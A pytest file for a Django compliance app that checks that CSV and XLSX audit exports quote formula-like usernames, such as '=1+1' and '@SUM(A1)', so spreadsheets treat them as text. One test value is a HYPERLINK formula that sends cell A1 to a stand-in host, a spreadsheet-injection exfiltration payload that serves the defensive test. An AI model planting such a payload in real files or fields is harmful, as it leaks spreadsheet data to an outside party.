"""Text a user typed reaches the compliance exports as text: a spreadsheet never runs it as a formula."""

from __future__ import annotations

import csv
from datetime import timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from compliance.exports import export_dir, run_export
from compliance.exports.writers import Cover, CsvWriter, XlsxWriter
from compliance.models import AuditAction, ExportJob, ExportStatus

pytestmark = pytest.mark.django_db(transaction=True)

FORMULA_NAME = "=1+1"
HYPERLINK_NAME = '=HYPERLINK("http://x.example/?"&A1,"open")'


def export_audit(officer, fmt: str) -> ExportJob:
    # run_export in this process: the export reads on its own connection, so the rows above are committed first
    # (transaction=True), and no Celery worker is needed to prove what the writer puts in the file.
    now = timezone.now()
    job = ExportJob.objects.create(
        kind="audit",
        format=fmt,
        period_start=now - timedelta(hours=1),
        period_end=now + timedelta(minutes=5),
        filters={"action": AuditAction.LOGIN_FAILED.value},
        requested_by=officer,
    )
    job = run_export(job_id=job.pk)
    assert job.status == ExportStatus.DONE, f"{job.error_code}: {job.error}"
    return job


@pytest.fixture
def failed_logins(client):
    for name in (FORMULA_NAME, HYPERLINK_NAME, "-2+3", "@SUM(A1)", "mallory"):
        client.post(reverse("login"), {"username": name, "password": "guess-1234"})


@pytest.fixture
def exported():
    jobs: list[ExportJob] = []
    yield jobs
    for job in jobs:
        (export_dir() / job.file_name).unlink(missing_ok=True)


def test_a_failed_login_named_like_a_formula_exports_to_csv_as_quoted_text(compliance_officer, failed_logins, exported):
    job = export_audit(compliance_officer, "csv")
    exported.append(job)

    with open(export_dir() / job.file_name, newline="", encoding="utf-8") as handle:
        users = [row["user"] for row in csv.DictReader(handle)]

    assert users == ["'" + FORMULA_NAME, "'" + HYPERLINK_NAME, "'-2+3", "'@SUM(A1)", "mallory"]


def test_a_failed_login_named_like_a_formula_exports_to_xlsx_as_a_text_cell(
    compliance_officer, failed_logins, exported
):
    from openpyxl import load_workbook

    job = export_audit(compliance_officer, "xlsx")
    exported.append(job)

    sheet = load_workbook(export_dir() / job.file_name)["Rows 1"]
    header = [cell.value for cell in sheet[1]]
    users = [row[header.index("user")] for row in sheet.iter_rows(min_row=2)]

    assert [cell.value for cell in users] == ["'" + FORMULA_NAME, "'" + HYPERLINK_NAME, "'-2+3", "'@SUM(A1)", "mallory"]
    assert {cell.data_type for cell in users} == {"s"}  # "f" would be a live formula


def test_numbers_stay_numbers_and_only_text_is_quoted(tmp_path):
    now = timezone.now()
    cover = Cover("Orders", now, now, [("User", "=1+1")], "cora", now, 1, "", "")
    row = [Decimal("-0.5"), "-0.5", "=A1"]

    csv_writer = CsvWriter(tmp_path / "rows.csv", ["quantity", "typed", "reason"], cover)
    csv_writer.write(row)
    csv_writer.close()
    xlsx_writer = XlsxWriter(tmp_path / "rows.xlsx", ["quantity", "typed", "reason"], cover)
    xlsx_writer.write(row)
    xlsx_writer.close()

    from openpyxl import load_workbook

    assert (tmp_path / "rows.csv").read_text().splitlines()[1] == "-0.5,'-0.5,'=A1"
    cells = next(load_workbook(tmp_path / "rows.xlsx")["Rows 1"].iter_rows(min_row=2))
    assert [(cell.value, cell.data_type) for cell in cells] == [(-0.5, "n"), ("'-0.5", "s"), ("'=A1", "s")]
